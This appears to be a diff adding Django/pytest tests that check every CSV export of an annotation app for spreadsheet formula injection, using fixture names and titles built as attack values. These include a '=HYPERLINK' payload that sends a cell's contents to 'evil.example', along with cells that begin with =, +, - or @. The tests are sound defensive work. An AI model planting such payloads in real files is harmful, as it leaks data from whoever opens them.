@@ -206,3 +206,219 @@ def test_aware_times_are_written_in_utc():
     out = io.BytesIO()
     csv_write(out, ["when"], [[datetime(2024, 1, 1, 23, 0, tzinfo=UTC)]])
     assert parse(out.getvalue())[1] == ["2024-01-01T23:00:00+00:00"]
+
+
+# -- every CSV the app writes ----------------------------------------------------------------
+#
+# A study whose every name is hostile, coded through the real chain (sets → draw → labels →
+# arbitration and pilot decisions); then every CSV endpoint of the app is fetched (found from
+# the URL patterns, so that a new one without a recipe below fails here), parsed with Python's
+# csv and with pandas, and checked for formula-leading cells and for the names coming back.
+
+SET_A = '=HYPERLINK("http://evil.example/?q="&A1,"Server, cloud")'
+SET_B = '+Mobile "phones"\nand tablets'
+ROOT = '@Root, "quoted"'
+INNER = "-Inner\tpart"
+LEAF_A = "=1+1 leaf"
+LEAF_B = "+leaf, two\nlines"
+DEFINITION = "-definition\r\nwith a CR"
+NOTE = "@note, \"quoted\""
+REASON = "=reason\nline two"
+PILOT_NOTE = "+pilot, note"
+TITLES = ['=HYPERLINK("http://evil.example","click")', "+1 deploy", "-2 serving", "@SUM(A1:A9)",
+          "\ttab first", "\rcr first", 'commas, and "quotes"', "new\nline", "'=quoted already", "plain title"]
+USERS = ("@owner", "-ann", "+bob")
+FILE_ENDPOINTS = {"results:export_file", "api-results-export-file"}  # export jobs' files: the items CSV
+
+
+def _walk(patterns, prefix="", namespace=None):
+    from django.urls import URLResolver
+
+    for pattern in patterns:
+        if isinstance(pattern, URLResolver):
+            inner = ":".join(n for n in (namespace, pattern.namespace) if n) or None
+            yield from _walk(pattern.url_patterns, prefix + str(pattern.pattern), inner)
+        else:
+            name = ":".join(n for n in (namespace, pattern.name) if n) if pattern.name else None
+            yield name, prefix + str(pattern.pattern), pattern.callback
+
+
+def _view_source(callback) -> str:
+    import inspect
+
+    view = getattr(callback, "view_class", None) or getattr(callback, "cls", None) or callback
+    try:
+        return inspect.getsource(view)
+    except (OSError, TypeError):
+        return ""
+
+
+def csv_endpoints() -> set[str]:
+    """URL names whose name or route ends in csv, whose view writes CSV, or that serve export files."""
+    from django.urls import get_resolver
+
+    found = set()
+    for name, route, callback in _walk(get_resolver().url_patterns):
+        source = _view_source(callback)
+        if (name or "").endswith("csv") or route.endswith(".csv") or "text/csv" in source or "csv_response" in source:
+            assert name, f"a CSV route without a name: {route}"
+            found.add(name)
+    return found | FILE_ENDPOINTS
+
+
+@pytest.fixture
+def hostile(db, queued):
+    from annotator.jobs.runner import job_run
+    from sampling.design import DrawDesign, StratumChoice
+    from sampling.models import Assignment, SampleDraw
+    from sampling.services import sample_draw_labelling_start, sample_draw_start
+    from taxonomy.arbitration.services import arbitration_decide, arbitration_start, pilot_decision_set
+    from taxonomy.labelling.services import label_submit
+    from taxonomy.tree.services import category_add
+    from tests.factories import MembershipFactory, PostFactory, StudyFactory, UserFactory, evaluated_set
+
+    study = StudyFactory(slug="hostile", name=SET_A)
+    owner, ann, bob = (UserFactory(username=name) for name in USERS)
+    MembershipFactory(study=study, user=owner, is_owner=True, is_arbitrator=True)
+    for rater in (ann, bob):
+        MembershipFactory(study=study, user=rater, is_rater=True)
+    posts = [PostFactory(study=study, so_id=100 + i, title=title,
+                         creation_date=datetime(2019 + i % 3, 1 + i, 1, tzinfo=UTC))
+             for i, title in enumerate(TITLES)]
+    first = evaluated_set(study=study, name=SET_A, posts=posts[:6])
+    second = evaluated_set(study=study, name=SET_B, posts=posts[4:])
+    draw = sample_draw_start(study=study, user=owner, design=DrawDesign(
+        strata=(StratumChoice(first.pk, mode="census"), StratumChoice(second.pk, mode="census")), seed=11,
+        pilot_share=0.3, raters_per_item=2, rater_ids=(ann.pk, bob.pk)))
+    job_run(job_id=draw.job_id)
+    draw = sample_draw_labelling_start(draw=SampleDraw.objects.get(pk=draw.pk), user=owner)
+
+    root = category_add(study=study, name=ROOT, actor=owner, definition=DEFINITION)
+    inner = category_add(study=study, name=INNER, actor=owner, parent=root)
+    leaf_a = category_add(study=study, name=LEAF_A, actor=owner, parent=inner, definition="=2+2")
+    leaf_b = category_add(study=study, name=LEAF_B, actor=owner, parent=root)
+    reliability = list(draw.items.filter(part="reliability").order_by("post__so_id"))
+    for index, item in enumerate(reliability):
+        for assignment in Assignment.objects.filter(item=item).select_related("rater"):
+            disagree = index == 0 and assignment.rater == bob
+            label_submit(assignment=assignment, rater=assignment.rater, kind="categories",
+                         category_ids=[leaf_b.pk] if disagree else [leaf_a.pk, leaf_b.pk][: 1 + index % 2],
+                         note=NOTE)
+    arbitration_start(draw=draw, user=owner)
+    arbitration_decide(item=reliability[0], arbitrator=owner, kind="categories", category_ids=[leaf_b.pk],
+                       reason=REASON)
+    for item in draw.items.filter(part="pilot"):
+        pilot_decision_set(item=item, actor=owner, kind="categories", category_ids=[leaf_a.pk], reason=PILOT_NOTE)
+    return {"study": study, "owner": owner, "draw": draw, "first": first, "second": second}
+
+
+PATHS = [f"{ROOT} > {INNER} > {LEAF_A}", f"{ROOT} > {LEAF_B}"]
+
+
+def _body(response) -> bytes:
+    assert response.status_code == 200, (response.status_code, getattr(response, "content", b"")[:300])
+    return b"".join(response.streaming_content) if response.streaming else response.content
+
+
+def _export_file(client, world, *, api: bool, excel: bool) -> bytes:
+    from annotator.jobs.models import Job
+    from annotator.jobs.runner import job_run
+
+    slug = world["study"].slug
+    if api:
+        started = client.post(f"/api/studies/{slug}/results/exports/", {"kind": "items_csv", "excel": excel},
+                              content_type="application/json")
+        assert started.status_code == 202, started.content
+        job = Job.objects.get(pk=started.json()["id"])
+    else:
+        started = client.post(f"/studies/{slug}/results/exports/", {"kind": "items_csv", **({"excel": "1"} if excel
+                                                                                            else {})})
+        assert started.status_code == 302, started.content
+        job = Job.objects.order_by("-pk").first()
+    job_run(job_id=job.pk)
+    base = f"/api/studies/{slug}/results/exports/{job.pk}/file" if api else \
+        f"/studies/{slug}/results/exports/{job.pk}/file"
+    return _body(client.get(base))
+
+
+def _recipes(world) -> dict:
+    """URL name → (fetch(client, excel) → bytes, texts the file must give back)."""
+    slug, draw = world["study"].slug, world["draw"]
+    first, second = world["first"], world["second"]
+    compare = f"?first={first.pk}&second={second.pk}"
+
+    def get(url):
+        return lambda client, excel: _body(client.get(url + ("&" if "?" in url else "?") + "excel=1" if excel
+                                                      else url))
+
+    items = [*TITLES, SET_A, SET_B, *PATHS, NOTE, REASON, "@owner"]
+    return {
+        "sampling:draw_items_csv": (get(f"/studies/{slug}/draws/{draw.version}/items.csv"),
+                                    [*TITLES, SET_A, SET_B, "+bob -ann"]),
+        "sampling:draw_population_csv": (get(f"/studies/{slug}/draws/{draw.version}/population.csv"),
+                                         [SET_A, SET_B]),
+        "selection:set_years_csv": (get(f"/studies/{slug}/sets/{first.pk}/statistics/years.csv"), ["2019"]),
+        "selection:set_response_times_csv": (
+            get(f"/studies/{slug}/sets/{first.pk}/statistics/response-times.csv"), ["median"]),
+        "selection:compare_csv": (get(f"/studies/{slug}/sets/compare/comparison.csv{compare}"), [SET_A, SET_B]),
+        "results:taxonomy_csv": (get(f"/studies/{slug}/results/taxonomy.csv"),
+                                 [ROOT, INNER, LEAF_A, LEAF_B, DEFINITION, *PATHS]),
+        "api-results-taxonomy-csv": (get(f"/api/studies/{slug}/results/taxonomy.csv"),
+                                     [ROOT, INNER, LEAF_A, LEAF_B, DEFINITION, *PATHS]),
+        "results:saturation_csv": (get(f"/studies/{slug}/results/saturation.csv"), [PATHS[0]]),
+        "api-results-saturation-csv": (get(f"/api/studies/{slug}/results/saturation.csv"), [PATHS[0]]),
+        "results:export_file": (lambda client, excel: _export_file(client, world, api=False, excel=excel), items),
+        "api-results-export-file": (lambda client, excel: _export_file(client, world, api=True, excel=excel),
+                                    items),
+    }
+
+
+def check_csv(data: bytes, *, excel: bool, expected: list[str], where: str) -> None:
+    """Parses with csv and pandas; no formula-leading cell; ``expected`` texts come back
+    (each a whole cell, or a part of one such as a path in a list of labels)."""
+    assert data.startswith(b"\xef\xbb\xbf") is excel, where
+    assert data.endswith(b"\r\n"), where  # records end with CRLF
+    rows = parse(data)
+    assert rows and len({len(row) for row in rows}) == 1, where
+    assert formula_leading(rows) == [], where
+    frame = pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False)
+    assert frame.shape == (len(rows) - 1, len(rows[0])), where
+    assert [csv_text_restore(c) for c in frame.columns] == [csv_text_restore(c) for c in rows[0]], where
+    cells = [cell for column in frame.columns for cell in frame[column]]
+    assert not [cell for cell in cells + list(frame.columns) if cell.startswith(FORMULA_STARTS)], where
+    restored = {csv_text_restore(cell) for row in rows for cell in row}
+    for text in expected:
+        assert text in restored or any(text in cell for cell in restored), (where, text)
+
+
+def test_every_csv_endpoint_parses_with_csv_and_pandas_and_has_no_formula_leading_cell(client, hostile):
+    recipes = _recipes(hostile)
+    endpoints = csv_endpoints()
+    assert endpoints - set(recipes) == set(), "a CSV endpoint without a recipe in this test"
+    assert set(recipes) - endpoints == set(), "a recipe for an endpoint that is gone"
+    client.force_login(hostile["owner"])
+    for name, (fetch, expected) in sorted(recipes.items()):
+        for excel in (False, True):
+            check_csv(fetch(client, excel), excel=excel, expected=expected, where=f"{name} excel={excel}")
+
+
+def test_the_taxonomy_command_writes_the_same_rules(hostile, tmp_path):
+    from django.core.management import call_command
+
+    out = io.StringIO(newline="")
+    call_command("export_taxonomy", "--study", "hostile", stdout=out)
+    check_csv(out.getvalue().encode(), excel=False, expected=[ROOT, DEFINITION, *PATHS], where="export_taxonomy")
+    path = tmp_path / "taxonomy.csv"
+    call_command("export_taxonomy", "--study", "hostile", "--out", str(path), "--excel", stderr=io.StringIO())
+    check_csv(path.read_bytes(), excel=True, expected=[ROOT, *PATHS], where="export_taxonomy --excel")
+
+
+def test_no_module_but_csv_output_writes_csv_itself():
+    """One home: a csv.writer anywhere else would escape the rules above."""
+    from pathlib import Path
+
+    root = Path(__file__).resolve().parent.parent
+    writers = [str(path.relative_to(root)) for package in ("annotator", "sampling", "taxonomy")
+               for path in (root / package).rglob("*.py")
+               if any(call in path.read_text() for call in ("csv.writer(", "csv.DictWriter("))]
+    assert writers == ["annotator/csv_output.py"]
